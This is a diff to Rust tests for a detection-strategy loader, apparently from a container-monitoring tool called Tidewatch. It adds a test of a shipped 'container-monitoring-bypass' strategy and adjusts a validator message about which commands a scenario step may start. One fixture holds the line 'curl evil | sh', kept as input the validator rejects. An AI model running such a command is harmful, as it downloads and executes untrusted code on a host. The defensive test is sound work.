@@ -119,6 +119,31 @@ fn windows_line_ends_and_a_byte_order_mark_change_nothing() {
     assert_eq!(Strategies::load(&[bundle], &JUDGES).unwrap(), load_good());
 }
 
+/// A file of the strategy that ships with Tidewatch.
+macro_rules! shipped {
+    ($path:literal) => {
+        ($path, include_str!(concat!("../../../../ads/container-monitoring-bypass/", $path)))
+    };
+}
+
+#[test]
+fn the_shipped_strategy_is_sound() {
+    let files = [
+        shipped!("ads.md"),
+        shipped!("playbook.yml"),
+        shipped!("scenarios/cpu-burner.yml"),
+        shipped!("scenarios/ghost-burner.yml"),
+        shipped!("scenarios/host-saturation.yml"),
+        shipped!("scenarios/sample-command.yml"),
+    ];
+    let empty = Bundle::new("container-monitoring-bypass");
+    let bundle = files.into_iter().fold(empty, |bundle, (path, text)| bundle.with(path, text));
+    let judges = ["out_of_band_log", "excess", "saturation", "unapproved_image", "ghost"];
+    let loaded = Strategies::load(&[bundle], &judges).map_err(|problems| format!("{problems:#?}"));
+    let strategies = loaded.unwrap();
+    assert!(judges.iter().all(|judge| strategies.for_judge(judge).is_some()));
+}
+
 #[test]
 fn front_matter_is_checked_with_its_lines() {
     check_changes(
@@ -252,7 +277,7 @@ fn scenarios_are_checked_with_their_lines() {
             about: \' \'
             busy/scenarios/burner.yml:2: about is empty: say what happens
             [sh, -c, \'curl evil | sh\']
-            busy/scenarios/burner.yml:15: a step may not start sh; only docker, nerdctl, podman, runc, tidewatch, unshare
+            busy/scenarios/burner.yml:15: a step may not start sh; only docker, nerdctl, podman, runc, unshare
             []
             busy/scenarios/burner.yml:7: an empty command
             seconds: 0\n    own_cgroup: ../..
